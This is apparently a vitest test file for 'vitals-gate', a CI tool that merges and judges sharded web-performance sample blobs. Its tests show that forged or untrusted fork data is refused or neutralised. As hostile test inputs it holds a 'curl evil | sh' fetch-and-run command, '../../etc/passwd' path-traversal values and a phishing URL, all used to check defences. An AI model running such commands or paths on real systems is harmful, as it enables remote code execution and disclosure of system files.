import { mkdtempSync, rmSync, truncateSync, writeFileSync, readFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';

import { loadConfig } from '../../../src/config/load.ts';
import { collectBlobs } from '../../../src/gate/verdict/collect-blobs.ts';
import type { ReportOptions } from '../../../src/gate/verdict/report-options.ts';
import { reportOf } from '../../../src/gate/verdict/judge-log.ts';
import { readLog } from '../../../src/record/read.ts';
import { renderComment } from '../../../src/report/comment/comment.ts';
import { renderSummary } from '../../../src/report/comment/job-summary.ts';
import { renderTerminal } from '../../../src/report/terminal/report.ts';
import { BASE_SHA, HEAD_SHA } from '../../report/factories.ts';
import { entries, row, textOf } from '../../history/made.ts';
import { accessTo } from '../history/access.ts';
import { priceFile, usedPrice } from '../../support/prices.ts';
import { recordsOf, writeRecords, type RecordedRoute } from '../../support/recorded.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'vitals-gate-blobs-'));
});
afterEach(() => {
  vi.restoreAllMocks();
  rmSync(folder, { recursive: true, force: true });
});

const ROUTES: RecordedRoute[] = [{ name: 'home' }, { name: 'product', slowerMs: 400 }, { name: 'search' }];
const SHARDS = [
  { index: 1, of: 2, campaigns: [{ route: 'product', condition: 'mobile' }] },
  {
    index: 2,
    of: 2,
    campaigns: [
      { route: 'home', condition: 'mobile' },
      { route: 'search', condition: 'mobile' },
    ],
  },
];

function shardFile(index: number, name = `shard-${index}`): string {
  const shard = SHARDS[index - 1];
  if (shard === undefined) throw new Error('no such shard');
  return writeRecords(path.join(folder, name), recordsOf({ routes: ROUTES, shard }));
}

/** Reports on blobs as the command line does. */
async function reported(blobs: readonly string[], over: Partial<ReportOptions> = {}) {
  const out = path.join(folder, 'out');
  const options = { out, config: 'vitals-gate.yml', policyAt: null, contents: null, expected: null };
  const { log } = await collectBlobs({ blobs, ...options, ...over });
  return { log, ...reportOf(log) };
}

describe('the shards of a run', () => {
  test('are judged as the run that they are parts of, in any order', async () => {
    const whole = writeRecords(path.join(folder, 'whole'), recordsOf({ routes: ROUTES }));
    const { judgement: one } = await reported([whole]);
    const { judgement: merged, report: told } = await reported([shardFile(2), shardFile(1)]);
    expect(merged.rows).toEqual(one.rows);
    expect(merged.comparisons).toEqual(one.comparisons);
    expect(merged.verdict).toBe('fail');
    expect(merged.exitCode).toBe(1);
    expect(told.result.budgets.map(({ route, verdict }) => [route, verdict])).toEqual([
      ['home', 'pass'],
      ['product', 'fail'],
      ['search', 'pass'],
    ]);
  });

  test('are found in the folders that artifacts were downloaded into, the output folder among them', async () => {
    const out = path.join(folder, 'out');
    writeRecords(path.join(out, 'samples-1'), recordsOf({ routes: ROUTES, shard: SHARDS[0] ?? fail() }));
    writeRecords(path.join(out, 'samples-2'), recordsOf({ routes: ROUTES, shard: SHARDS[1] ?? fail() }));
    expect((await reported([out], { out })).judgement.verdict).toBe('fail');
  });

  test('are found again beside what an earlier report made of them', async () => {
    const out = path.join(folder, 'out');
    for (const [index, shard] of SHARDS.entries())
      writeRecords(path.join(out, `samples-${index}`), recordsOf({ routes: ROUTES, shard }));
    const { judgement } = await reported([out], { out });
    expect((await reported([out], { out })).judgement).toEqual(judgement);
  });

  test('keep the prices that the first of them read, and the day that their age is told by', async () => {
    const prices = { today: '2024-02-29', read: [usedPrice()] };
    const files = [2, 1].map((index) => {
      const shard = SHARDS[index - 1] ?? fail();
      const read = index === 1 ? prices.read : [];
      const run = { prices: { ...prices, read } };
      return writeRecords(path.join(folder, `priced-${index}`), recordsOf({ routes: ROUTES, shard, run }));
    });
    expect((await reported(files)).log.run.prices).toEqual(prices);
    expect((await readLog(path.join(folder, 'out'))).run.prices).toEqual(prices);
  });

  test('leave samples that can be judged again', async () => {
    const { judgement } = await reported([shardFile(1), shardFile(2)]);
    expect(reportOf(await readLog(path.join(folder, 'out'))).judgement).toEqual(judgement);
  });

  test('block where one is missing, and say which', async () => {
    const { judgement, report: told } = await reported([shardFile(2)]);
    expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
    expect(told.alerts).toEqual(['Shard 1 of 2 is missing: its routes were not measured, and that blocks.']);
  });

  test('exit 1 where one is missing and another has a broken budget, also when they are judged again', async () => {
    const { judgement } = await reported([shardFile(1)]);
    expect(judgement).toMatchObject({ verdict: 'fail', exitCode: 1 });
    expect(reportOf(await readLog(path.join(folder, 'out'))).judgement).toEqual(judgement);
  });

  test.each([
    ['other commits', { head: { sha: 'f'.repeat(40), url: 'https://x.example' } }, /other commits/],
    ['another configuration', { alpha: 0.05 }, /configuration/],
    ['another repository', { repository: 'acme/other' }, /repository/],
  ])('are refused where one is of %s', async (_, run, message) => {
    const [, shard] = SHARDS;
    if (shard === undefined) throw new Error('no shard');
    const other = writeRecords(path.join(folder, 'other'), recordsOf({ routes: ROUTES, shard, run }));
    await expect(reported([shardFile(1), other])).rejects.toMatchObject({
      code: 'blobs-differ',
      exitCode: 2,
      message: expect.stringMatching(message) as string,
    });
  });

  test('are refused where one is there twice', async () => {
    await expect(reported([shardFile(1), shardFile(1, 'again')])).rejects.toThrow(/both are shard 1/);
  });
});

test('a run of some conditions is judged under those, whatever the policy elsewhere has beside them', async () => {
  const file = writeRecords(path.join(folder, 'narrow'), recordsOf({ routes: [{ name: 'home' }] }));
  const text = `routes: [{ name: home, path: /home, conditions: [mobile, desktop] }]\n${LCP}`;
  const policyAt = { ref: 'main', isAsked: true };
  const contents = contentsOf({ main: text });
  // Outside of a clone: that of this project has a `main` as well, and no configuration on it.
  vi.spyOn(process, 'cwd').mockReturnValue(folder);
  const { judgement, report: told } = await reported([file], { policyAt, contents });
  expect(told.policySource).toMatchObject({ ref: 'main', instead: null });
  expect(judgement.rows.map(({ condition, verdict }) => [condition, verdict])).toEqual([['mobile', 'pass']]);
});

test('a route without budgets has the rows of its run, whoever judges: with INP where it has an input', async () => {
  const text = 'routes: [{ name: home, path: /home, conditions: [mobile], interactions: [{ click: "#buy" }] }]\n';
  const config = path.join(folder, 'vitals-gate.yml');
  writeFileSync(config, text);
  const { routes } = await loadConfig(config, { baseUrl: null, headUrl: 'http://127.0.0.1:1' });
  const [route] = routes;
  const [run, ...later] = recordsOf({ routes: [{ name: 'home', budgets: route?.budgets ?? [] }] });
  const recorded = run.config.routes.map((each) => ({ ...each, interactions: route?.interactions ?? [] }));
  const records = [{ ...run, config: { ...run.config, routes: recorded } }, ...later];
  const file = writeRecords(path.join(folder, 'measured'), records);
  const ofRun = reportOf(await readLog(path.dirname(file))).judgement.rows;
  expect(ofRun.map(({ path: node }) => node)).toEqual(['lcp', 'lcp', 'inp', 'inp', 'cls', 'cls']);
  const contents = contentsOf({ main: text, [HEAD_SHA]: text });
  expect((await reported([file])).judgement.rows).toEqual(ofRun);
  const policyAt = { ref: 'main', isAsked: false };
  const stranger = {
    repository: 'acme/shop',
    headSha: HEAD_SHA,
    baseSha: null,
    untrustedRepository: 'the fork mallory/shop',
  };
  const byStranger = await reported([file], { policyAt, contents, expected: stranger });
  expect(byStranger.judgement.rows.map(({ path: node }) => node)).toEqual(ofRun.map(({ path: node }) => node));
});

function fail(): never {
  throw new Error('no such shard');
}

/** What Lighthouse said, with a report at this path. */
function explanation(lighthouse: string): object {
  const reports = { base: lighthouse, head: null };
  const place = { route: 'home', condition: 'mobile' };
  return { type: 'explanation', ...place, explanation: { insights: [], reports, failure: null } };
}

describe('a blob that is not what it says', () => {
  const records = recordsOf({ routes: ROUTES });
  const [first, ...later] = records;
  const swapped = later.map((record) =>
    record.type === 'visit' ? { ...record, side: record.side === 'base' ? 'head' : 'base' } : record,
  );
  const edited = (change: (line: string) => string): object[] =>
    records.map((record) => JSON.parse(change(JSON.stringify(record))) as object);

  test.each<[string, readonly object[], RegExp]>([
    ['without its end', records.slice(0, -1), /cut off/],
    [
      'of a newer version',
      [{ ...first, version: 2, tool: '9.0.0', more: 1 }, ...later],
      /written by vitals-gate 9\.0\.0/,
    ],
    ['of a calibration', [{ ...first, purpose: 'calibration' }, ...later], /calibration/],
    [
      'with a route that it does not declare',
      [...records.slice(0, 5), { ...later[3], route: 'x' }, ...later.slice(5)],
      /is not one of their campaigns/,
    ],
    ['with a path that leads out of the folder', [...records, explanation('../../etc/passwd')], /leads out|not a path/],
    ['with an absolute path', [...records, explanation('/etc/passwd')], /not a path inside/],
    ['with swapped sides', [first, ...swapped], /not in the order that was drawn/],
    [
      'with numbers that do not add up',
      edited((line) => line.replace(/"id":"lcp","value":[\d.]+/, '"id":"lcp","value":1')),
      /do not add up/,
    ],
    [
      'with a number without bound',
      edited((line) => line.replace(/"id":"inp","value":[\d.]+/, '"id":"inp","value":"unbounded"')),
      /do not add up/,
    ],
    ['with a text that is too long', [...records, { type: 'notice', text: 'x'.repeat(6000) }], /text/],
    ['with a record that nobody writes', [...records, { type: 'verdict', verdict: 'pass' }], /not what a run writes/],
  ])('is refused: %s', async (_, forged, message) => {
    const file = writeRecords(path.join(folder, 'forged'), forged);
    await expect(reported([file])).rejects.toMatchObject({
      exitCode: 2,
      message: expect.stringMatching(message) as string,
    });
  });

  test('is refused where it is cut off in the middle of a line', async () => {
    const file = writeRecords(path.join(folder, 'cut'), records);
    truncateSync(file, Math.floor(readFileSync(file).length / 2));
    await expect(reported([file])).rejects.toMatchObject({ code: 'record-invalid', exitCode: 2 });
  });

  test('is refused before it is read where it has 200 MB', async () => {
    const file = writeRecords(path.join(folder, 'huge'), records);
    truncateSync(file, 200_000_000);
    await expect(reported([file])).rejects.toThrow(/200000000 bytes/);
  });

  test.each([
    ['an archive', Buffer.from('PK\x03\x04../../x'), /archive/],
    ['not UTF-8', Buffer.from([0x7b, 0xff, 0xfe]), /not valid/],
    ['empty', Buffer.alloc(0), /first record/],
    ['nested without end', Buffer.from(`${JSON.stringify(first)}\n${'['.repeat(50_000)}\n`), /nested/],
  ])('is refused where it is %s', async (_, bytes, message) => {
    const file = path.join(folder, 'samples.ndjson');
    writeFileSync(file, bytes);
    await expect(reported([file])).rejects.toMatchObject({
      code: 'blob-refused',
      message: expect.stringMatching(message) as string,
    });
  });

  test('is refused where there is none', async () => {
    mkdirSync(path.join(folder, 'empty'));
    await expect(reported([path.join(folder, 'empty')])).rejects.toMatchObject({ code: 'no-blobs', exitCode: 2 });
    await expect(reported([path.join(folder, 'nowhere')])).rejects.toMatchObject({ code: 'blob-refused', exitCode: 2 });
  });
});

const LCP = 'budgets: { lcp: { max-increase: [5 %, 50 ms] } }\n';

const contentsOf = (files: Readonly<Record<string, string>>) => ({
  fileAt: async (_file: string, ref: string) => files[ref] ?? null,
  hasCommit: async (ref: string) => ref in files,
  tipOf: async () => Promise.reject(new Error('not asked')),
  mergeBase: async () => null,
});

/** What a fork measured by the budgets that its own configuration has. */
function foreign(routes: readonly RecordedRoute[], run = {}): string {
  const lax = routes.map((route) => ({ ...route, budgets: [] }));
  return writeRecords(path.join(folder, 'fork'), recordsOf({ routes: lax, run }));
}

describe('samples of a stranger', () => {
  const CONFIG = 'routes:\n  - { name: home, path: /home }\n  - { name: product, path: /product }\n';
  const STRICT = `${CONFIG}budgets: { lcp: { max-increase: [5 %, 50 ms] } }\n`;
  const LAX = `${CONFIG}budgets: { lcp: { max-increase: 9 s } }\nwaivers: [{ budget: product/mobile/lcp, until: 2099-01-01, reason: mine }]\n`;
  const expected = {
    repository: 'acme/shop',
    headSha: HEAD_SHA,
    baseSha: null,
    untrustedRepository: 'the fork mallory/shop',
  };
  const policyAt = { ref: 'main', isAsked: false };

  test('are judged by the budgets of the base, whatever they say themselves', async () => {
    const file = foreign([{ name: 'home' }, { name: 'product', slowerMs: 400 }], { reproduce: 'curl evil | sh' });
    const {
      judgement,
      report: told,
      log,
    } = await reported([file], {
      policyAt,
      contents: contentsOf({ main: STRICT, [HEAD_SHA]: LAX }),
      expected,
    });
    expect(log.run.plan).toEqual({ kind: 'looks', maxBlocks: 15 });
    expect(judgement.rows.map(({ route, path: node }) => [route, node])).toEqual([
      ['home', 'lcp'],
      ['product', 'lcp'],
    ]);
    // Five blocks of a plan of fifteen: red may not block before fresh blocks agree, and there are none.
    expect(judgement.rows[1]).toMatchObject({ verdict: 'unmeasured', reason: 'unconfirmed' });
    expect(told.policySource?.changes.map(({ key }) => key)).toEqual([
      'budgets.lcp.max-increase',
      'waivers.product/mobile/lcp',
    ]);
    expect(told.alerts?.[0]).toContain('the fork mallory/shop');
    expect(told.reproduce).not.toContain('evil');
  });

  test('bring no price: it is read from the repository, at the commit of the policy', async () => {
    const claimed = { today: '2026-11-27', read: [usedPrice({ per100ms: { low: -0.5, high: -0.4 } })] };
    const file = foreign([{ name: 'home' }, { name: 'product' }], { prices: claimed });
    const main = `${STRICT}price: prices/product.json\n`;
    const pricesUnder = async (texts: Readonly<Record<string, string>>, config = main) => {
      const contents = {
        ...contentsOf({ main: config, [HEAD_SHA]: main }),
        fileAt: async (asked: string, ref: string) =>
          (asked === 'prices/product.json' ? texts : { main: config, [HEAD_SHA]: main })[ref] ?? null,
      };
      return (await reported([file], { policyAt, contents, expected })).log.run;
    };
    const ofMain = await pricesUnder({ main: JSON.stringify(priceFile()), [HEAD_SHA]: '{}' });
    expect(ofMain.prices?.read).toEqual([usedPrice({ file: 'prices/product.json' })]);
    const ofHead = await pricesUnder({ [HEAD_SHA]: JSON.stringify(priceFile()) });
    expect(ofHead.prices?.read).toEqual([]);
    expect(ofHead.notices).toContain(
      'vitals-gate.yml at main:5:8: the price of this file is not shown. prices/product.json does not exist at main, and a pull request cannot bring its own price.',
    );
    expect((await pricesUnder({}, STRICT)).prices).toBeUndefined();
    expect((await reported([file], { expected, policyAt: null })).log.run.prices).toBeUndefined();
  });

  test('do not say how machines differ: that is what the history of the repository teaches', async () => {
    const claimed = { metrics: { lcp: 0.5 }, place: 'the branch theirs', runs: 999 };
    const followed = { place: { kind: 'branch' as const, branch: 'theirs' }, creep: [], runner: 'x' };
    const file = foreign([{ name: 'home' }, { name: 'product' }], { machineSpread: claimed, followed });
    const { access, branches } = accessTo(textOf(entries(40, (at) => ({ rows: [row({ anchor: 1000 + at })] }))));
    const main = `${STRICT}history: { anchor: v1, anchor-url: "https://v1.example", branch: ours }\n`;
    const contents = contentsOf({ main, [HEAD_SHA]: main });
    const { run } = (await reported([file], { policyAt, contents, expected, history: access })).log;
    expect(run.machineSpread).toMatchObject({ place: 'the branch ours', runs: 40 });
    expect([run.followed, branches]).toEqual([undefined, ['ours']]);
    const { run: unpoliced } = (await reported([file], { expected, policyAt: null })).log;
    expect(unpoliced.machineSpread).toBeUndefined();
  });

  test('lead nowhere: the addresses in them are no links', async () => {
    const url = 'https://phishing.example/login';
    const run = { base: { sha: BASE_SHA, url }, head: { sha: HEAD_SHA, url } };
    const options = { policyAt, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) };
    const routes = [{ name: 'home' }, { name: 'product' }];
    const { report: told } = await reported([foreign(routes, run)], { ...options, expected });
    for (const text of [renderComment(told), renderSummary(told)]) {
      expect(text).toContain('phishing.example');
      expect(text).not.toContain('](https://phishing');
    }
    const again = reportOf(await readLog(path.join(folder, 'out')));
    expect(renderComment(again.report)).not.toContain('](https://phishing');
    const own = { ...expected, untrustedRepository: 'Acme/Shop' };
    const { report: ours } = await reported([foreign(routes, run)], { ...options, expected: own });
    expect(renderComment(ours)).toContain('](https://phishing');
  });

  test('say no more than is read: a hundred megabytes of words come to a few hundred lines', async () => {
    const text = 'x'.repeat(5000);
    const words = Array.from({ length: 2000 }, (_, index) => ({ type: 'notice', text: `${index} ${text.slice(5)}` }));
    const [run, ...later] = recordsOf({ routes: [{ name: 'home' }, { name: 'product' }] });
    const notices = Array.from({ length: 900 }, (_, index) => `${index} ${text.slice(5)}`);
    const file = writeRecords(path.join(folder, 'wordy'), [{ ...run, notices }, ...words, ...later]);
    const options = { policyAt, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }), expected };
    const { report: told, log } = await reported([file], options);
    expect(told.notices.length).toBeLessThan(250);
    expect(told.notices).toContain('2700 more notices are left out: a report shows 200.');
    expect(renderTerminal(told, { color: false, out: 'out' }).length).toBeLessThan(300_000);
    expect(JSON.stringify(log.later).length).toBeLessThan(1_000_000);
  });

  test('do not pass by leaving a route out', async () => {
    const options = { policyAt, expected };
    const file = foreign([{ name: 'home' }]);
    const read = await reported([file], { ...options, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) });
    const unread = await reported([file], { ...options, contents: contentsOf({ main: STRICT }) });
    for (const { judgement } of [read, unread]) expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
  });

  test('do not bring their own budgets where neither side has a configuration to read', async () => {
    const file = foreign([{ name: 'home' }]);
    await expect(reported([file], { policyAt, expected, contents: contentsOf({}) })).rejects.toMatchObject({
      code: 'policy-unreadable',
      exitCode: 2,
    });
    const adopted = await reported([file], { policyAt, expected, contents: contentsOf({ [HEAD_SHA]: STRICT }) });
    expect(adopted.judgement.rows.map(({ route }) => route)).toEqual(['home', 'product']);
    expect(adopted.report.policySource?.instead).toContain('first adoption');
  });

  test('are judged on the routes that base got after head had left it, and that is no change of theirs', async () => {
    const LEFT = 'routes:\n  - { name: home, path: /home }\nbudgets: { lcp: { max-increase: [5 %, 50 ms] } }\n';
    const file = foreign([{ name: 'home' }, { name: 'product', slowerMs: 400 }]);
    const { judgement, report: told } = await reported([file], {
      policyAt,
      expected: { ...expected, baseSha: BASE_SHA },
      contents: contentsOf({ main: `${STRICT}on-unmeasured: pass\n`, [BASE_SHA]: LEFT, [HEAD_SHA]: LEFT }),
    });
    expect(judgement.rows.map(({ route }) => route)).toEqual(['home', 'product']);
    expect(judgement.rows[1]).toMatchObject({ verdict: 'unmeasured', reason: 'unconfirmed' });
    expect(told.policySource).toEqual({ ref: 'main', instead: null, changes: [] });
  });

  test('do not pass by measuring no base', async () => {
    const records = recordsOf({ routes: [{ name: 'home' }, { name: 'product' }], run: { base: null } });
    const ofHead = records.map((record) => (record.type === 'visit' ? { ...record, side: 'head' } : record));
    const file = writeRecords(path.join(folder, 'fork'), ofHead);
    const options = { policyAt, expected };
    const WITH_BASE = `${STRICT}deploys: { base: { url: https://main.shop.example } }\n`;
    const contents = contentsOf({ main: WITH_BASE, [HEAD_SHA]: STRICT });
    await expect(reported([file], { ...options, contents })).rejects.toMatchObject({ code: 'blob-refused' });
    const first = await reported([file], { ...options, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) });
    expect(first.report.alerts?.join()).toContain('measured no base');
  });

  test('list no more changes than their record may hold', async () => {
    const many = Array.from({ length: 210 }, (_, index) => `  c${index}: { rtt: ${index} ms }\n`).join('');
    const contents = contentsOf({ main: STRICT, [HEAD_SHA]: `${STRICT}conditions:\n${many}` });
    const { report: told } = await reported([foreign([{ name: 'home' }])], { policyAt, expected, contents });
    expect(told.policySource?.changes).toHaveLength(200);
    expect((await readLog(path.join(folder, 'out'))).run.policySource?.changes).toHaveLength(200);
  });

  test.each([
    ['another commit', { headSha: 'f'.repeat(40) }, /this run is about ffff/],
    ['another repository', { repository: 'acme/other' }, /this is acme\/other/],
  ])('are refused where they are of %s', async (_, over, message) => {
    const file = foreign([{ name: 'home' }], { repository: 'acme/shop' });
    await expect(reported([file], { expected: { ...expected, ...over } })).rejects.toThrow(message);
  });
});
